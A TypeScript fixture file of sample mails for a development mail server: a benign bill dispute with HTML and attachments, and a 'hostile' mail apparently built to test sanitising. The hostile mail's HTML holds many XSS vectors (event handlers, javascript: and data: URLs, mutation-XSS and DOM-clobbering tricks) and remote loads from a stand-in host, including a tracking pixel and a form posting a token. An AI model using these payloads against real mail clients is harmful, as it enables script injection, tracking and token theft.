// SPDX-License-Identifier: Apache-2.0
// Mails of the development server.

/** One pixel. */
export const picture = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");

export function billMail() {
  return {
    text: "Hello,\n\nthe November bill has 38.20 for roaming, but I was at home all month. The bill is attached, and what my phone counted.\n\nCan you take it off?\n\n-- \nMei Tanaka\nLarkfield 14",
    mail: {
      from: { name: "Mei Tanaka", address: "mei.tanaka@example.com" },
      to: [{ address: "support@larkfield.example" }],
      cc: [{ name: "Ken", address: "ken@example.com" }],
      subject: "Roaming on the November bill",
      htmlUrl: "x-mail:support/k/html",
      sourceUrl: "x-mail:support/k/source",
      marks: ["charset_repaired", "guessed"],
    },
    attachments: [
      { name: "bill.pdf", mediaType: "application/pdf", sizeBytes: "340123", url: "x-mail:support/k/2" },
      { name: "phone.png", mediaType: "image/png", sizeBytes: "2123", url: "x-mail:support/k/3" },
      { name: "logo.png", mediaType: "image/png", sizeBytes: "820", url: "x-mail:support/k/4", contentId: "logo@example.com" },
    ],
    files: {
      html: { type: "text/html", bytes: designed },
      source: { type: "message/rfc822", bytes: "From: mei.tanaka@example.com\r\nSubject: Roaming on the November bill\r\n\r\nHello" },
      0: { type: "application/pdf", bytes: "%PDF-1.4" },
      1: { type: "image/png", bytes: picture },
      "cid:logo@example.com": { type: "image/png", bytes: picture },
    },
  };
}

const designed = `<div style="font-family: Georgia, serif; max-width: 34rem">
<table width="100%" style="background:#2f5d50;color:#fff;border-radius:8px"><tr><td style="padding:14px 18px">
<img src="cid:logo@example.com" width="28" height="28" style="vertical-align:middle;border-radius:6px">
<b style="font-size:18px;margin-left:10px">November bill</b></td></tr></table>
<p>Hello,</p><p>the November bill has <b style="color:#b3261e">38.20</b> for roaming, but I was at home all month.</p>
<table style="border-collapse:collapse"><tr><td style="border:1px solid #ccc;padding:4px 10px">Roaming</td><td style="border:1px solid #ccc;padding:4px 10px">38.20</td></tr>
<tr><td style="border:1px solid #ccc;padding:4px 10px">Plan Hillside</td><td style="border:1px solid #ccc;padding:4px 10px">29.00</td></tr></table>
<p>Can you take it off?</p><img src="https://pictures.example/banner.png" width="200" height="40"></div>`;

/** Everything that a mail may try; `host` is somebody else's server. */
export function hostileMail(host) {
  const run = "window.hacked=1;parent.hacked=1;top.hacked=1;top.postMessage('hacked','*')";
  const html = `<html><head><base href="${host}/base/"><meta http-equiv="refresh" content="0;url=${host}/refresh">
<link rel="stylesheet" href="${host}/sheet.css"><link rel="preload" as="image" href="${host}/preload"><link rel="dns-prefetch" href="${host}">
<style>@import url("${host}/import.css"); @font-face { font-family: f; src: url(${host}/font) } body { background: url(${host}/background) } p { font-family: f } p::after { content: url(${host}/after) }</style>
<script>${run}</script><script src="${host}/script.js"></script></head>
<body onload="${run}" background="${host}/body">
<p style="background-image:url('${host}/inline')" onmouseover="${run}">Your parcel waits</p>
<a href="javascript:${run}">script</a><a href="data:text/html,<script>${run}</script>">data</a><a href="https://shop.example/" ping="${host}/ping" target="_top">shop</a>
<img src="${host}/pixel.gif?who=agent" width="1" height="1"><img src="//${host.slice(7)}/relative"><img srcset="${host}/set 2x"><img src=x onerror="${run}">
<picture><source srcset="${host}/source"><img src="${host}/picture"></picture>
<svg onload="${run}"><script>${run}</script><image href="${host}/svg"/><animate onbegin="${run}" attributeName="x"/></svg>
<iframe src="${host}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="${host}/object"></object><embed src="${host}/embed">
<video src="${host}/video" poster="${host}/poster" autoplay></video><audio src="${host}/audio" autoplay></audio>
<form action="${host}/form" id="f"><input name="token" autofocus onfocus="${run}"><button formaction="javascript:${run}">Go</button></form>
<table background="${host}/table"><tr><td background="${host}/cell">x</td></tr></table>
<div id="root"></div><img name="getElementById" src="cid:none"><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">
</body></html>`;
  return {
    text: "Your parcel waits",
    mail: { from: { name: "Parcels", address: "parcels@example.net" }, subject: "<img src=x onerror=alert(1)>", htmlUrl: "x-mail:support/h/html" },
    files: { html: { type: "text/html", bytes: html } },
  };
}
